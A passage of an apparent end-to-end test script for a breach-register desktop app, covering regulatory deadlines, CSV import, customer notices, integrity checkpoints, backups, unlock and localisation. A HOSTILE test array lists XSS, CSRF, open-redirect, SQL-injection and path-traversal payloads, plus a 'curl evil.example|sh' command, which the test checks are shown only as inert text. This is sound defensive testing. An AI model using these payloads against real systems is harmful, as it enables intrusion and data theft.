  await s.waitFor("#classified-cra", { text: "actively exploited vulnerability" });
  await s.waitFor('#obligations-panel li.obligation[data-regime="cra"][data-kind="early-warning"] .obl-clock .clock');
  await s.waitFor('#obligations-panel li.obligation[data-regime="cra"][data-kind="final"][data-status="awaiting_anchor"]');
  // The "Saved" toast sits over the lower right corner where the buttons are: wait it out.
  const centre = (css) => s.exec(`document.querySelector('${css}').scrollIntoView({ block: 'center' })`);
  await waitGone(".toast");
  await centre("#milestones");
  // Typed and left (input + change): the field's own hint appears under it before Save is pressed.
  await s.setValue("#ms-corrective", "soon");
  await s.waitFor("#ms-corrective-format", { text: "Not a date" });
  await s.click("#ms-save");
  await s.waitFor("#ms-corrective-error .error", { text: "corrective or mitigating measure" });
  await s.exec("document.querySelector('#milestones').scrollIntoView({ block: 'center' })");
  await shot("incident-corrective-refused", { top: false });
  const nowLocal = await s.exec(
    `const p = Object.fromEntries(new Intl.DateTimeFormat("en-GB", { timeZone: "Europe/Amsterdam", hourCycle: "h23",
       year: "numeric", month: "2-digit", day: "2-digit", hour: "2-digit", minute: "2-digit" }).formatToParts(Date.now()).map(x => [x.type, x.value]));
     return p.day + "/" + p.month + "/" + p.year + " " + p.hour + ":" + p.minute;`,
  );
  await s.clear("#ms-corrective");
  await s.type("#ms-corrective", nowLocal);
  await centre("#milestones");
  await s.click("#ms-save");
  const craFinal = '#obligations-panel li.obligation[data-regime="cra"][data-kind="final"]';
  await s.waitFor(`${craFinal}[data-status="pending"] .obl-aim`, { text: /^Aim for \d\d\/\d\d\/\d{4} \d\d:\d\d CES?T · legal limit \d\d\/\d\d\/\d{4} 23:59 CES?T$/ });
  assert.equal(await s.exec("return document.querySelector('#ms-corrective-error .error')"), null, "the error left after saving");
  await waitGone(".toast");
  await s.setValue("#cl-regime", "dora");
  await centre("#classify");
  await s.click("#cl-save");
  await s.waitFor("#classified-dora", { text: "DORA major since" });
  await waitGone(".toast");
  await centre("#milestones");
  await s.type("#ms-recovered", nowLocal);
  await s.click("#ms-save");
  await s.waitFor('#obligations-panel li.obligation[data-regime="dora"][data-kind="updated-intermediate"]');
  await shot("incident-cra-dora-obligations");
  await s.exec("document.querySelector('#milestones').scrollIntoView({ block: 'center' })");
  await shot("incident-milestones-saved", { top: false });
  // CRA Art 14(6): the coordinator CSIRT asks for an intermediate report and sets no time: an
  // obligation with no due time, never late.
  await waitGone(".toast");
  await centre("#report-request");
  await s.setValue("#rq-regime", "cra");
  await s.type("#rq-at", nowLocal);
  await centre("#report-request");
  await s.click("#rq-save");
  const craInt = '#obligations-panel li.obligation[data-regime="cra"][data-kind="intermediate"]';
  await s.waitFor(`${craInt} .obl-due`, { text: "No due time: the request set none (never late)" });
  assert.equal(await s.exec(`return document.querySelector('${craInt}').dataset.status`), "pending");
  assert.equal(await s.exec(`return document.querySelector('${craInt} .clock')`), null, "no countdown without a due time");
  await s.exec(`document.querySelector('${craInt}').scrollIntoView({ block: 'center' })`);
  await shot("incident-cra-intermediate-requested", { top: false });
  log("contacts, settings and classification done");


  // ---- XSS: the title is text --------------------------------------------------------------
  await quickLog(XSS, "javascript:alert(2)");
  await s.keys([Key.ctrl, Key.enter]);
  await s.waitFor("#incident-title", { text: XSS });
  assert.equal(await s.exec("return document.querySelectorAll('img').length"), 0, "no element was created");
  await s.click("#nav-register");
  await s.waitFor(".row-title", { text: XSS });
  assert.equal(await s.exec("return document.querySelectorAll('img').length"), 0);
  await shot("xss-title-literal");

  // ---- the seeds' bug-bounty classes (XSS, open redirect, CSRF, command/file/URL inclusion,
  // code execution, code/database injection) stay inert text everywhere ----------------------
  const HOSTILE = [
    ["xss", "<script>document.title='pwned'</script>", "<svg onload=alert(3)><b onclick=alert(4)>bold</b>"],
    ["open redirect", "https://evil.example/login?next=//evil.example", '<a href="https://evil.example/">Continue</a>'],
    ["csrf", '<form action="https://evil.example/delete" method="post"><button>Approve</button></form>', '<img src="https://evil.example/logout">'],
    ["inclusion", "; cat /etc/passwd # $(curl evil.example|sh)", "../../../../etc/passwd file:///etc/shadow"],
    ["code execution", "{{7*7}} ${7*7} <%= 7*7 %>", "__proto__.polluted=1 constructor.prototype"],
    ["injection", "' OR 1=1; DROP TABLE incidents; --", '" onmouseover="alert(5)" x="'],
  ];
  const page = () =>
    s.exec(`return {
      scripts: document.scripts.length,
      foreign: document.querySelectorAll('img, iframe, object, embed, form[action], a[href*="evil.example"], a[href^="javascript"]').length,
      handlers: [...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => a.name.startsWith('on'))).length,
      title: document.title,
      href: location.href,
      polluted: ({}).polluted === undefined ? 0 : 1,
    }`);
  const clean = await page();
  assert.deepEqual([clean.foreign, clean.handlers, clean.polluted], [0, 0, 0], "the app itself has none of these");
  for (const [cls, title, description] of HOSTILE) {
    await quickLog(title, description);
    await s.keys([Key.ctrl, Key.enter]);
    await s.waitFor("#incident-title", { text: title });
    await s.waitFor("#incident-description", { text: description });
    assert.deepEqual(await page(), clean, `${cls}: rendered as text, nothing executed or navigated`);
  }
  assert.ok(!(await s.textOf("#incident-title")).includes("49"), "no template was evaluated");
  await shot("hostile-incident-literal");
  await s.click("#nav-register");
  for (const [, title] of HOSTILE) await s.waitFor(".row-title", { text: title });
  assert.deepEqual(await page(), { ...clean, href: await s.exec("return location.href") });
  await shot("hostile-register-literal");
  log("bug-bounty classes inert");
  log("xss checked");

  // ---- customers: a CSV file with a bad row previewed (nothing imported), then a good one ------
  await s.click("#nav-customers");
  await s.waitFor("#customers-h", { text: "Customers" });
  const before = await s.exec("return document.querySelectorAll('.customer-row').length");
  const header = "name,country,language,authority,notice_hours,contact,contract_reference\n";
  const badCsv = join(dir, "customers-bad.csv");
  writeFileSync(badCsv, `${header}Acme Retail,NL,nl,nl-ap,24,dpo@acme.test,DPA-1\nInitech,XX,es,nl-ap,soon,,\n`);
  await s.click("#customers-import");
  await gtkOpen("Choose a customers CSV file", badCsv);
  await s.waitFor("#import-preview");
  const refused = await s.exec("return [...document.querySelectorAll('.import-error')].map((e) => e.textContent.trim())");
  assert.deepEqual(
    refused,
    [
      "Line 3: Invalid country: it is not an ISO 3166 two-letter country code (NL, DE, FR, GB…)",
      "Line 3: Invalid language: it is not one of: en, de, nl, fr",
      "Line 3: Invalid notice hours: it is not a whole number",
    ],
    "every refused field of the bad row, with its line",
  );
  assert.equal(await s.exec("return document.querySelector('#import-confirm').disabled"), true, "a refused row blocks the import");
  await shot("customers-import-refused");
  const goodCsv = join(dir, "customers.csv");
  writeFileSync(goodCsv, `\ufeff${header}Acme Retail,NL,nl,nl-ap,24,dpo@acme.test;+31 20 555 0100,DPA-1\nGlobex GmbH,DE,de,de-bfdi,36,datenschutz@globex.test,K-2\nUmbrella Ltd,GB,en,uk-ico,,privacy@umbrella.test,\n`);
  await s.click("#customers-import");
  await gtkOpen("Choose a customers CSV file", goodCsv);
  await s.waitFor("#import-summary", { text: "3 rows: 3 to add, 0 to change, 0 unchanged." });
  await s.click("#import-confirm");
  await waitGone("#import-preview");
  await s.waitFor(".customer-name", { text: "Umbrella Ltd" });
  assert.equal(await s.exec("return document.querySelectorAll('.customer-row').length"), before + 3);
  await shot("customers-imported");
  log("customers imported from CSV");

  // ---- notify customers: a breach of our own and our customers' data (both roles); the three
  // customers' notices prepared into a folder with a progress bar, marked sent, one acknowledged --
  await quickLog("Tenant database exposed", "A misconfigured backup bucket exposed the tenant database of three customers.");
  await s.keys([Key.ctrl, Key.enter]);
  await s.waitFor("#incident-title", { text: "Tenant database exposed" });
  await s.setValue("#a-personal-data", "yes");
  await s.setValue("#a-role", "both");
  await s.waitFor("#a-controllers label", { text: "Umbrella Ltd" });
  await s.exec(
    "[...document.querySelectorAll('#a-controllers label')].filter((l) => /Acme Retail|Globex GmbH|Umbrella Ltd/.test(l.textContent)).forEach((l) => l.querySelector('input').click())",
  );
  await s.setValue("#a-risk", "risk");
  await s.type("#a-risk-reasoning", "Contact data of our customers' users; no special categories.");
  await s.click("#a-save");
  await s.waitFor("#breach-flag");
  // Both roles: our own notification to the authority and one notice per customer.
  await s.waitFor('#obligations-panel li.obligation[data-regime="gdpr"][data-kind="notification"]');
  await s.waitFor('#obligations-panel li.obligation[data-kind="controller-notice"]');
  await s.exec("window.scrollTo(0, 0)"); // the form's save button left the page scrolled down
  await s.click("#notify-customers");
  await s.waitFor("#notify-counts", { text: "3 draft · 0 sent · 0 acknowledged" });
  assert.deepEqual(
    await s.exec("return [...document.querySelectorAll('#notify tbody th[scope=row]')].map((t) => t.textContent)"),
    ["Acme Retail", "Globex GmbH", "Umbrella Ltd"],
  );
  await s.type("#notify-search", "umbrella");
  await s.waitFor("#notify tbody tr", { text: "GB · en" });
  assert.equal(await s.exec("return document.querySelectorAll('#notify tbody tr').length"), 1, "the search keeps Umbrella only");
  await s.setValue("#notify-search", "");
  await s.waitFor("#notify tbody tr:nth-child(3)");
  await shot("notify-customers");
  await s.click("#notify-all");
  await s.waitFor("#notify-selected", { text: "3 selected" });
  const noticesDir = join(dir, "notices");
  mkdirSync(noticesDir);
  await s.click("#notify-prepare");
  await gtkPickFolder("Folder for the customer notices", noticesDir);
  await s.waitFor("#notify-progress-row", { text: "3 of 3 notices written", timeout: 60000 });
  assert.equal(await s.exec("return document.querySelector('#notify-progress').value"), 3);
  const notices = readdirSync(noticesDir).sort();
  assert.deepEqual(notices, ["01-acme-retail.pdf", "02-globex-gmbh.pdf", "03-umbrella-ltd.pdf", "manifest.csv"]);
  for (const f of notices) assert.equal((statSync(join(noticesDir, f)).mode & 0o777).toString(8), "600", `${f} is private`);
  const manifest = readFileSync(join(noticesDir, "manifest.csv"), "utf8").trim().split("\n");
  assert.equal(manifest[0], "controller,contact,language,file,sha256");
  for (const line of manifest.slice(1)) {
    const cols = line.split(",");
    const sha = createHash("sha256").update(readFileSync(join(noticesDir, cols[3]))).digest("hex");
    assert.equal(cols[4], sha, `the manifest's hash of ${cols[3]}`);
  }
  await shot("notify-prepared");
  await s.click("#notify-mark-sent");
  await s.waitFor("#notify-send-form");
  await s.type("#notify-reference", "Notices e-mailed from the DPO mailbox");
  await shot("notify-mark-sent", { top: false });
  await s.click("#notify-send-save");
  await s.waitFor("#notify-counts", { text: "0 draft · 3 sent · 0 acknowledged" });
  await s.exec("[...document.querySelectorAll('#notify tbody tr')].find((r) => r.textContent.includes('Acme Retail')).querySelector('.notify-ack').click()");
  await s.waitFor("#notify-ack-form");
  await s.type("#notify-ack-by", "Jan de Vries");
  await s.click("#notify-ack-save");
  await s.waitFor('#notify tbody tr[data-state="acknowledged"]', { text: "by Jan de Vries" });
  await s.waitFor("#notify-counts", { text: "0 draft · 2 sent · 1 acknowledged" });
  await shot("notify-acknowledged");
  log("customers notified, one acknowledgement recorded");

  // ---- integrity -----------------------------------------------------------------------------
  await s.click("#nav-integrity");
  await s.waitFor("#verify-result", { text: "intact" });
  await s.click("#run-verify");
  // The result shown before the click (the first run's) also says intact: wait for this run's.
  await s.waitFor("#run-verify:not([disabled])");
  await s.waitFor("#verify-result", { text: "intact" });
  assert.match(await s.textOf("#head-hash"), /^[0-9a-f]{64}$/);
  assert.ok(Number(await s.textOf("#verify-events")) > 10);
  // No time-stamping authority is configured in this scenario: the status line says so.
  await s.waitFor("#last-timestamp", { text: "none yet" });
  await shot("integrity");
  // A signed checkpoint for a witness through the native save dialog: the C2SP note of the
  // register, a private file; the screen verifies again and shows it as the last checkpoint.
  const witness = join(dir, "checkpoint.txt");
  await s.click("#export-checkpoint");
  await gtkSave("Save a signed checkpoint", witness);
  await s.waitFor("#checkpoint-saved", { text: "checkpoint.txt" });
  const note = readFileSync(witness, "utf8");
  assert.match(note, /^breachlog\.register\/[0-9a-f-]{36}\n(\d+)\n[A-Za-z0-9+/=]{44}\nhead \d+ [0-9a-f]{64}\n\n\u2014 breachlog\.register\//);
  assert.equal(statSync(witness).mode & 0o777, 0o600);
  const size = note.split("\n")[1];
  await s.waitFor("#last-checkpoint", { text: `${size} events` });
  await s.exec("document.querySelector('#export-checkpoint').scrollIntoView({ block: 'center' })");
  await shot("integrity-checkpoint-saved", { top: false });
  log("signed checkpoint saved for a witness");

  // Trusted timestamps: a real RFC 3161 TSA (openssl ts -reply behind a local HTTP server). A
  // URL that is not http:// is named under the field; the TSA is added with its CA certificate
  // through the native file dialog, asked for a token now, shown as the last timestamp, removed.
  const tsa = await startTsa(join(dir, "tsa"));
  await s.exec("document.querySelector('#tsa-card').scrollIntoView({ block: 'center' })");
  await s.waitFor("#tsa-none", { text: "No time-stamping authority" });
  await s.setValue("#tsa-url", "ftp://tsa.example.test/");
  await s.click("#tsa-add");
  await s.waitFor("#tsa-url-error", { text: "http://" });
  await s.setValue("#tsa-url", tsa.url);
  await s.click("#tsa-add");
  await gtkOpen("The time-stamping authority's CA certificate", tsa.caPem);
  await s.waitFor("#tsa-done", { text: "Added" });
  await s.waitFor("#tsa-list", { text: "Test CA e2e" });
  await s.waitFor("#timestamp-now:not([disabled])");
  await s.click("#timestamp-now");
  await s.waitFor("#tsa-done", { text: "recorded (event", timeout: 30000 });
  await s.waitFor("#last-timestamp", { text: "by CN=Test TSA e2e" });
  assert.ok(tsa.served() >= 1);
  await s.exec("document.querySelector('#tsa-card').scrollIntoView({ block: 'center' })");
  await shot("integrity-tsa", { top: false });
  await s.click("#tsa-list .tsa-remove");
  await s.exec("document.querySelector('#tsa-list button.danger').click()");
  await s.waitFor("#tsa-none", { text: "No time-stamping authority" });
  await tsa.close();
  log("trusted timestamp from a real TSA");

  // ---- Reports screen: the exports for auditors (the save dialogs themselves are native) ----
  await s.click("#nav-reports");
  await s.waitFor("#rep-export-h", { text: "Exports for auditors" });
  await s.waitFor("#exp-localised");
  await s.exec("document.querySelector('#rep-export-h').scrollIntoView()");
  await shot("reports-exports", { top: false });

  // ---- scheduled encrypted backup, restore test, retention and redaction --------------------
  const backupDir = join(dir, "backups");
  await s.click("#nav-settings");
  await s.waitFor("#backups");
  await s.exec("document.querySelector('#backups').scrollIntoView()");
  await s.waitFor("#backup-next", { text: "no folder chosen" });
  await s.setValue("#s-backup", backupDir);
  await s.click("#save-backup");
  // No button pressed: the app's scheduler writes the first backup as soon as a folder is set.
  await s.waitFor("#backup-last", { text: ".blbackup", timeout: 30000 });
  assert.equal(readdirSync(backupDir).filter((f) => f.endsWith(".blbackup")).length, 1);
  await s.click("#backup-test");
  await s.waitFor("#backup-test-result", { text: "Restore test passed", timeout: 60000 });
  await s.waitFor("#backup-last-test", { text: "passed" });
  await shot("settings-backups", { top: false });
  // Close one hostile incident and redact it early (an erasure request).
  await s.click("#nav-register");
  await s.waitFor(".row-title", { text: "; cat /etc/passwd" });
  await s.exec("[...document.querySelectorAll('.row-title')].find((b) => b.textContent.startsWith('; cat /etc/passwd')).click()");
  await s.waitFor("#incident-title", { text: "; cat /etc/passwd" });
  await s.click("#move-triage");
  await s.waitFor("#incident-status", { text: "triage" });
  await s.click("#move-closed");
  await s.setValue("#close-reason", "false_positive");
  await s.exec("[...document.querySelectorAll('button.primary')].find((b) => b.textContent.trim() === 'Confirm').click()");
  await s.waitFor("#incident-status", { text: "closed" });
  await s.click("#nav-settings");
  await s.waitFor("#retention");
  await s.exec("document.querySelector('#retention').scrollIntoView()");
  await s.waitFor("#retention-list td", { text: "; cat /etc/passwd" });
  await s.exec("document.querySelector('#retention-list button.redact').click()");
  await s.waitFor("#redact-confirm");
  await s.type("#redact-reason", "Erasure request of the reporter");
  await s.exec("document.querySelector('#redact-confirm').scrollIntoView()");
  await shot("settings-retention-confirm", { top: false });
  await s.click("#redact-confirm-button");
  await s.waitFor("#retention-empty");
  await s.click("#nav-register");
  await s.waitFor(".row-title", { text: "(redacted)" });
  await s.exec("[...document.querySelectorAll('.row-title')].find((b) => b.textContent === '(redacted)').click()");
  await s.waitFor("#redacted-banner", { text: "redacted on" });
  await s.waitFor("#incident-title", { text: "(redacted)" });
  await shot("incident-redacted");
  await s.click("#nav-integrity");
  await s.click("#run-verify");
  await s.waitFor("#verify-result", { text: "intact" });
  log("backups and redaction done");

  // ---- another process writes while the app is open ----------------------------------------
  // The CLI beside the app binary writes to the same register; the app notices SQLite's data
  // version moving and shows the new incident without being told.
  await s.click("#nav-register");
  const cli = join(dirname(app), "breachlog");
  execFileSync(cli, ["incident", "new", "--title", "Logged from the terminal meanwhile", "--json"], {
    env: { ...env, BREACHLOG_PASSPHRASE: PASS },
    timeout: 30000,
  });
  await s.waitFor(".row-title", { text: "Logged from the terminal meanwhile", timeout: 10000 });
  log("a write by another process is shown");

  // ---- lock, wrong then right passphrase --------------------------------------------------
  await s.click("#lock");
  await s.waitFor("#unlock-title");
  await shot("locked");
  await s.type("#unlock-secret", "not the passphrase");
  await s.click("#unlock-submit");
  await s.waitFor("#unlock-error", { text: "Wrong passphrase" });
  await shot("unlock-wrong-passphrase");
  await s.type("#unlock-secret", PASS);
  await s.click("#unlock-submit");
  await s.waitFor("#reg-title");
  await s.waitFor(".row-title", { text: XSS });
  // The recovery key opens it too, and then a new passphrase is required before anything else
  // (set back to PASS here, which the steps below use).
  await s.click("#lock");
  await s.waitFor("#unlock-title");
  await s.click("#unlock-use-recovery");
  await s.type("#unlock-secret", recovery.toLowerCase());
  await s.click("#unlock-submit");
  await s.waitFor("#new-passphrase-dialog");
  assert.equal(await s.exec("return document.querySelector('#kp-current, #new-passphrase-dialog input[autocomplete=current-password]')"), null, "the lost passphrase is not asked");
  assert.equal(await s.exec("return document.querySelector('main.content').inert"), true, "the register behind it is inert");
  await s.keys(Key.escape);
  await s.waitFor("#new-passphrase-dialog");
  await shot("unlock-recovery-new-passphrase");
  await s.type("#np-new", PASS);
  await s.type("#np-new2", PASS);
  await s.click("#np-save");
  await waitGone("#new-passphrase-dialog");
  await s.waitFor(".row-title", { text: XSS });
  log("lock/unlock done");

  // ---- German, live --------------------------------------------------------------------------
  await s.click("#nav-settings");
  await s.setValue("#org-language", "de");
  await s.waitFor("#nav-settings", { text: "Einstellungen" });
  await s.waitFor("#set-h", { text: "Einstellungen" });
  await shot("settings-german");
  await s.click("#nav-register");
  await s.waitFor("#reg-title", { text: "Vorfallsregister" });
  await s.waitFor("table.incidents th");
  // cli-header-detected in locales/de (textContent: the headers are shown in capitals by CSS).
  assert.ok(
    await s.exec("return [...document.querySelectorAll('table.incidents th')].some((th) => th.textContent.includes('Entdeckt'))"),
    "the register's column headers are German",
  );
  await shot("register-german");
  await s.click("#nav-obligations");
  await s.waitFor("#obls-h", { text: "Meldepflichten" });
  await s.waitFor("#obligations-all li.obligation .obl-status", { text: "offen" });
  await shot("obligations-german");
  await s.click("#obligations-all li.obligation:first-child .obl-incident");
  await s.waitFor("#obl-h", { text: "Pflichten" });
  await shot("incident-obligations-german");
  await s.exec("document.querySelector('#classify').scrollIntoView()");
  await shot("classify-german", { top: false });
  await s.exec("document.querySelector('#enisa').scrollIntoView({ block: 'center' })");
  await shot("enisa-german", { top: false });
  await s.exec("window.scrollTo(0, 0)"); // the sticky top bar would cover the link scrolled to
  await s.click("#open-drafts");
  await s.waitFor("#draft");
  await shot("draft-german-ui");
  await s.click("#nav-contacts");
  await s.waitFor("#contacts-h", { text: "Behördenkontakte" });
  await shot("contacts-german");
  await s.click("#nav-settings");
  await s.waitFor("#rules-h", { text: "Fristenregeln" });
  await s.exec("document.querySelector('#regimes').scrollIntoView()");
  await shot("settings-regulation-german", { top: false });

  // ---- layout in every language at 1280 px and 900 px (screenshots in layout/) ---------------
  await layoutStep(s, { shots, finalLang: "de", log });
  log("layout checked in four languages at two widths");

  // ---- growing delay after repeated failures (still German) -----------------------------------
  await s.click("#lock");
  await s.waitFor("#unlock-title", { text: "entsperren" });
  // The core allows five failures, then waits 30 s, doubling (the count survives restarts).
  for (let i = 0; i < 5; i++) {
    await s.type("#unlock-secret", `wrong ${i} passphrase`);
    await s.click("#unlock-submit");
    await s.waitFor("#unlock-error .error");
    await sleep(300);
  }
  await s.waitFor("#unlock-error .warn", { text: /\d+ s/ });
  await shot("unlock-growing-delay-german");
  const waited = Date.now();
  await s.waitFor("#unlock-submit", { timeout: 1000 });
  assert.equal(await s.exec("return document.querySelector('#unlock-submit').disabled"), true, "no attempt during the wait");
  await s.type("#unlock-secret", PASS);
  await s.exec("return null");
  for (;;) {
    if (!(await s.exec("return document.querySelector('#unlock-submit').disabled"))) break;
    if (Date.now() - waited > 40000) throw new Error("the wait did not end");
    await sleep(500);
  }
  await s.click("#unlock-submit");
  await s.waitFor("#reg-title", { text: "Vorfallsregister" });
  log("german and unlock delay done");

  // ---- dark mode: a second start of the app with a dark GTK theme -----------------------------
  await s.close();
  s = undefined;
  const dark = spawn(driverBin, ["--port", String(port + 4), "--native-port", String(port + 5)], {
    env: { ...env, GTK_THEME: "Adwaita:dark" },
    stdio: ["ignore", "inherit", "inherit"],
  });
  try {
    for (let i = 0; !s; i++) {
      try {
        s = await Session.create(`http://127.0.0.1:${port + 4}`, app);
      } catch (e) {
        if (i > 50) throw e;
        await sleep(200);
      }
    }
    await s.type("#unlock-secret", PASS);
    await s.click("#unlock-submit");
    await s.waitFor(".row-title", { text: "Ransomware" });
    const bg = await s.exec("return getComputedStyle(document.body).backgroundColor");
    assert.equal(bg, "rgb(17, 22, 29)", "follows the dark preference");
    await shot("register-dark");
    await s.exec("[...document.querySelectorAll('.row-title')].find((b) => b.textContent.includes('Ransomware')).click()");
    await s.waitFor("#incident-title");
    await shot("incident-dark");
  } finally {
    await s?.close().catch(() => {});
    s = undefined;
    dark.kill();
  }
  log("all steps passed");
} catch (e) {
  if (s) await shot("failure").catch(() => {});
  console.error(e);
  process.exitCode = 1;
} finally {
  if (s) await s.close().catch(() => {});
  driver.kill();
  try {
    rmSync(dir, { recursive: true, force: true });
  } catch {
    // a desktop helper may still hold a mount below it; it is in the temp dir anyway
  }
  console.log(`e2e finished in ${((Date.now() - started) / 1000).toFixed(1)} s, screenshots in ${shots}`);
}
